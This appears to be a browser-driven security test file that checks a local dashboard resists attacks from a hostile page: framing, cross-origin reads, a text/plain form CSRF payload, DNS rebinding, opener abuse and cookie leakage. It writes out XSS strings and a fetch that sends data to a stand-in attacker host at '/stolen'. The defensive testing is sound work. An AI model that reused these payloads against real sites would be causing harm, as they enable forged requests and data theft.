// What other pages, names and ports try with the dashboard, in a browser that is signed in to it.
import assert from "node:assert/strict";
import { Person, heading, lab, shot, told, turned, until } from "./lab.mjs";

const EVIL = "http://127.0.0.1:8000";
const WORDS = JSON.stringify({ words: ["invite"] });
let nas, page, origin, tab;

const pages = () => ({
    "/frame": `<title>frame</title><iframe src="${origin}/" width="900" height="600"></iframe>`,
    "/form": `<title>form</title><form method="post" enctype="text/plain" action="${origin}/v1/proposals"><input name='${WORDS.slice(0, -1)},"x":"' value='"}'></form><script>document.forms[0].submit()</script>`,
    "/load": `<title>load</title><script src="${origin}/app.js" type="module" onload="document.title='script'" onerror="this.lost=1"></script>
        <script src="${origin}/lib/preact.js" onload="document.title='script'"></script><img src="${origin}/icons.svg" onload="document.title='picture'"><link rel="stylesheet" href="${origin}/app.css" onload="document.title='sheet'">`,
});

// In the page of somebody else: what fetch() says to that request, and what can be read of the answer.
const fetched = (where, path, options) => where.evaluate(async ([url, o]) => {
    try {
        const answer = await fetch(url, o);
        return `${answer.type} ${answer.status} ${(await answer.text()).length}`;
    } catch (e) {
        return e.name;
    }
}, [origin + path, options]);

const proposals = () => page.evaluate(async () => (await (await fetch("/v1/proposals", { headers: { "Clan-Token": sessionStorage.getItem("token") } })).json()).proposals.length);

const steps = {
    async "signed in: the code is gone from the address, the cookie is out of reach of scripts"() {
        const bent = Array.from({ length: 16 }, (_, i) => `MAP bent${64 + i}.example 127.${64 + i}.117.1`);   // a clan's place is known later
        nas = await Person.at("nas", `--host-resolver-rules=${bent.join(", ")}`);
        await lab("clan", "nas", "up", "--name", "home", "--no-questions");
        await lab("again", "nas", "ui", "--print");
        page = await nas.dashboard();
        origin = new URL(page.url()).origin;
        await lab("evil", "nas", "127.0.0.1", 8000, 4343, pages());
        tab = await nas.tab(EVIL);
        assert.ok(!page.url().includes("code"));
        const cookies = await nas.context.cookies();
        assert.deepEqual(cookies.map((c) => [c.name, c.httpOnly, c.sameSite, c.domain]), [["clan_session", true, "Strict", new URL(origin).hostname]]);
        assert.equal(await page.evaluate(() => document.cookie + Object.values(localStorage).join("")), "");
        assert.ok(await page.evaluate(() => /^[0-9a-f]{64}$/.test(sessionStorage.getItem("token"))));
    },
    async "in a frame there is nothing"() {
        await tab.goto(`${EVIL}/frame`);
        const [, frame] = tab.frames();
        await until(() => nas.errors.some((x) => x.includes("frame-ancestors")), "the refusal");
        assert.ok(!frame.url().startsWith(origin), frame.url());
        assert.equal(await frame.locator(".tiles, #app").count(), 0);
        await shot(tab, "framed");
    },
    async "another page reads nothing and posts nothing"() {
        await tab.goto(EVIL);
        for (const path of ["/v1/mode", "/v1/openapi.json", "/v1/machines", "/app.js"]) {
            assert.equal(await fetched(tab, path, { credentials: "include" }), "TypeError", path);
            assert.equal(await fetched(tab, path, { credentials: "include", mode: "no-cors" }), "TypeError", `${path}, opaque`);
        }
        const body = { method: "POST", credentials: "include", body: WORDS };
        await fetched(tab, "/v1/proposals", { ...body, mode: "no-cors" });
        await fetched(tab, "/v1/proposals", { ...body, headers: { "Content-Type": "application/json", "Clan-Token": "ab".repeat(32) } });
        const answered = tab.waitForResponse((r) => r.url().startsWith(origin));
        await tab.goto(`${EVIL}/form`);
        assert.ok((await answered).status() >= 400);
        assert.equal(await proposals(), 0);
    },
    async "its scripts, sheets and pictures are not lent to other pages"() {
        await tab.goto(`${EVIL}/load`, { waitUntil: "load" });
        assert.equal(await tab.title(), "load");
    },
    async "a window that another page opened is not in its hands"() {
        await tab.goto(EVIL);
        const [opened] = await Promise.all([nas.context.waitForEvent("page"), tab.evaluate((url) => { globalThis.w = open(url); }, origin)]);
        await opened.waitForSelector(".tiles");
        assert.equal(await tab.evaluate(() => globalThis.w.closed), true);
        assert.equal(await opened.evaluate(() => globalThis.opener), null);
        await opened.close();
    },
    async "a name that is bent to its address is refused"() {
        const name = `bent${origin.split(".")[1]}.example`;
        for (const path of ["/", "/app.js", "/v1/mode"]) {
            const answer = await tab.goto(`http://${name}:7180${path}`);
            assert.equal(answer.status(), 421, path);
        }
        assert.equal(await fetched(tab, "/v1/mode", {}), "TypeError");
        assert.equal(await tab.evaluate(async () => (await fetch("/v1/machines")).status), 421);
    },
    async "no other program answers at its address, and none elsewhere is sent the cookie"() {
        for (const uid of [4343, 0])
            await lab("evil", "nas", new URL(origin).hostname, 9000 + uid, uid, {});
        for (const uid of [4343, 0])
            await assert.rejects(tab.goto(`http://${new URL(origin).hostname}:${9000 + uid}/`, { timeout: 1500 }), `user ${uid}`);
        const saw = await lab("evil_saw", "nas");
        assert.ok(saw.length >= 4 && saw.every((q) => q.host === new URL(EVIL).host));
        assert.deepEqual(saw.filter((q) => q.cookie || q["clan-token"]), []);
    },
    async "half a session is none"() {
        const [token, cookie] = [await page.evaluate(() => sessionStorage.getItem("token")), await nas.context.cookies()];
        const other = await nas.browser.newContext();
        const half = await other.newPage();
        await half.goto(origin);
        await half.evaluate((x) => sessionStorage.setItem("token", x), token);
        await half.reload();
        await heading(half, "not signed in");
        await other.addCookies(cookie);
        await half.evaluate(() => sessionStorage.clear());
        await half.reload();
        await heading(half, "not signed in");
        await other.close();
    },
    async "text becomes nothing but text, whatever a page's own code does"() {
        const tried = await page.evaluate(async () => {
            const out = [], may = (name, f) => { try { f(); out.push(name); } catch { /* refused */ } };
            may("innerHTML", () => { document.createElement("p").innerHTML = "<img src=x onerror=globalThis.bad=1>"; });
            await new Promise((done) => setTimeout(() => { may("eval", () => (0, eval)("globalThis.bad = 1")); done(); }));   // what a test runs itself is let through
            may("write", () => document.write("<p>"));
            const script = document.createElement("script");
            may("script", () => { script.text = "globalThis.bad = 1"; document.head.append(script); });
            const far = await fetch("http://127.0.0.1:8000/stolen").then(() => "sent", () => "");
            return [...out, far, globalThis.bad ?? ""].filter(Boolean);
        });
        assert.deepEqual(tried, []);
        assert.ok(!(await lab("evil_saw", "nas")).some((q) => q.path === "/stolen"));
    },
    async "who signs out is out in every tab"() {
        const second = await nas.tab(`${origin}/`);
        await second.waitForSelector(".tiles");
        await turned(page, "Machines");
        await page.getByRole("button", { name: "Sign out" }).click();
        for (const one of [page, second])
            await heading(one, "not signed in");
        await page.reload();
        await heading(page, "not signed in");
        assert.equal(await page.evaluate(() => sessionStorage.getItem("token")), null);
    },
};

await told(steps, { apart: true });
